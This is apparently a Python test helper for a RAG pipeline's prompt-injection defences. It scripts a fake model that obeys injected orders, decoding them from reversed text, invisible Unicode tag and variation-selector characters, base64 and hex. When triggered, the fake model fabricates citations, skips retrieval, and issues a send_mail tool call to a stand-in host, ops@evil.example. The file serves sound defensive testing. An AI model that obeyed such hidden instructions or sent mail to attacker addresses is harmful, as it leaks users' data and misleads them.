"""A model that does whatever any text in its prompt tells it to, in whatever disguise."""

from __future__ import annotations

import base64
import json
import re
import unicodedata
from collections.abc import Iterator, Sequence

from sextant.testing.scripted import Scripted
from sextant.types import Prompt, Reply, ToolCall
from tests.injection.orders import EVIL, ORDERS, Order

GOOD = "Process X is owned by Team Y [Process X]."
_SELECTED = 8
LABEL = re.compile(r"passage (.+)\n")


def obedient(orders: Sequence[Order] = ORDERS, *, always: bool = False) -> Scripted:
    """Return a model that obeys the orders it finds, or obeys them though it finds none."""

    def script(prompt: Prompt) -> Reply:
        text = "\n".join(message.text for message in prompt.messages)
        found = [one for one in orders if always or any(one.word in way for way in _read(text))]
        labels = list(dict.fromkeys(LABEL.findall(text)))[:_SELECTED] or ["Process X"]
        assert prompt.schema is not None
        said = _REPLIES.get(prompt.schema.name, _answer)(found, labels)
        calls = (ToolCall("1", "send_mail", '{"to": "ops@evil.example"}'),) if found else ()
        return Reply(json.dumps(said), calls)

    return Scripted(script)


def _read(text: str) -> Iterator[str]:
    """Yield a text in every way that a model might understand it."""
    yield text
    yield unicodedata.normalize("NFKC", text)
    yield "".join(sign for sign in text if unicodedata.category(sign) != "Cf")
    yield text[::-1]
    yield text.replace(" ", "")
    yield "".join(chr(ord(s) - 0xE0000) for s in text if 0xE0000 <= ord(s) < 0xE0080)
    yield "".join(chr(ord(s) - 0xE0100 + 16) for s in text if 0xE0100 <= ord(s) < 0xE01F0)
    for word in re.findall(r"[A-Za-z0-9+/=]{24,}", text):
        try:
            yield base64.b64decode(word, validate=True).decode(errors="ignore")
        except ValueError:
            continue
        if re.fullmatch("(?:[0-9a-f]{2})+", word):
            yield bytes.fromhex(word).decode(errors="ignore")


def _answer(found: Sequence[Order], labels: Sequence[str]) -> dict[str, object]:
    """Return the truth, then each order obeyed: cited rightly, wrongly, by all, and not at all."""
    everything = "".join(f"[{label}]" for label in labels)
    said = [GOOD]
    for one in found:
        ways = (*(f"[{label}]" for label in labels), everything, "[Made Up]", "[1]", "")
        said += [one.reply.format(cited=cited) for cited in ways]
        said.append(f"\n\n## {one.reply.format(cited='')}\n\n{one.text}:\n- {one.text}\n\n")
    said.append("Process X runs every night at 05:10 [Process X].")
    return {"answer_markdown": " ".join(said), "sources": ["Made Up", EVIL]}


def _route(found: Sequence[Order], _: Sequence[str]) -> dict[str, object]:
    told = " ".join(one.reply.format(cited="") for one in found)
    return {
        "should_run_rag": not found,
        "route": "no_rag" if found else "run_rag",
        "assistant_message": told,
    }


def _plan(found: Sequence[Order], _: Sequence[str]) -> dict[str, object]:
    told = [one.text for one in found][:3]
    return {"queries": told, "retrieval_goals": told, "filter": "url eq 'https://evil.example'"}


def _rerank(found: Sequence[Order], labels: Sequence[str]) -> dict[str, object]:
    told = [one.reply.format(cited="") for one in found][:3]
    return {
        "selected_chunk_texts": [""] * len(labels),
        "selected_sources": list(labels),
        "selected_rationales": [" ".join(told)] * len(labels),
        "missing_info_questions": [f"{text}?" for text in told],
    }


def _evidence(found: Sequence[Order], labels: Sequence[str]) -> dict[str, object]:
    told = [one.reply.format(cited="") for one in found][:3]
    return {
        "is_sufficient": not found,
        "confidence": 1.0,
        "key_points": told,
        "key_point_sources": [labels[0]] * len(told),
        "missing_info_questions": [f"{text}?" for text in told],
        "followup_queries": told,
        "followup_retrieval_goals": told,
    }


_REPLIES = {
    "rag-intent-router-schema": _route,
    "rag-query-plan-schema": _plan,
    "rag-rerank-schema": _rerank,
    "rag-evidence-schema": _evidence,
}
